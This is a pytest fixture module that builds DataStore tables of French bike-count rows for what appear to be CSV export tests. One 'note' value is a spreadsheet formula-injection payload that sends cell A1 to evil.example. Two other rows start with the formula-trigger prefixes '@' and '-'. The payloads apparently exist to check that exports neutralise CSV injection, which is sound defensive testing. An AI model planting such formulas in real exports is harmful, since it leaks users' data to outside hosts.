"""DataStore tables for the export tests, made with datastore_create."""

from __future__ import annotations

import pytest

from ..helpers import api, dataset_fields

FIELDS = [
    {"id": "commune", "type": "text"},
    {"id": "code_insee", "type": "text"},
    {"id": "velos", "type": "int"},
    {"id": "taux", "type": "numeric"},
    {"id": "jour", "type": "date"},
    {"id": "releve", "type": "timestamp"},
    {"id": "ouvert", "type": "bool"},
    {"id": "note", "type": "text"},
    {"id": "latitude", "type": "float"},
    {"id": "longitude", "type": "float"},
]
ROWS = [
    {
        "commune": "Marseille",
        "code_insee": "13055",
        "velos": 120,
        "taux": 12.5,
        "jour": "2026-12-31",
        "releve": "2026-12-31T10:30:00",
        "ouvert": True,
        "note": '=HYPERLINK("http://evil.example/?"&A1)',
        "latitude": 43.2965,
        "longitude": 5.3698,
    },
    {
        "commune": "Ambérieu",
        "code_insee": "01004",
        "velos": -3,
        "taux": -0.75,
        "jour": "2026-01-02",
        "releve": "2026-01-02T08:00:00",
        "ouvert": False,
        "note": "-12",
        "latitude": 45.95,
        "longitude": 5.35,
    },
    {
        "commune": "Aix-en-Provence",
        "code_insee": "13001",
        "velos": 80,
        "taux": None,
        "jour": None,
        "releve": None,
        "ouvert": None,
        "note": "@SUM(A1:A2)",
        "latitude": None,
        "longitude": None,
    },
]


def table(rows=ROWS, fields=FIELDS, **dataset) -> tuple[dict, str]:
    """A dataset with one DataStore table; returns (dataset, resource id)."""
    created = api("package_create", **dataset_fields(**dataset))
    result = api(
        "datastore_create",
        resource={"package_id": created["id"], "name": "Comptages", "format": "CSV"},
        fields=fields,
        records=rows,
        force=True,
    )
    return created, result["resource_id"]


@pytest.fixture
def counts(catalogue) -> tuple[dict, str]:
    return table()
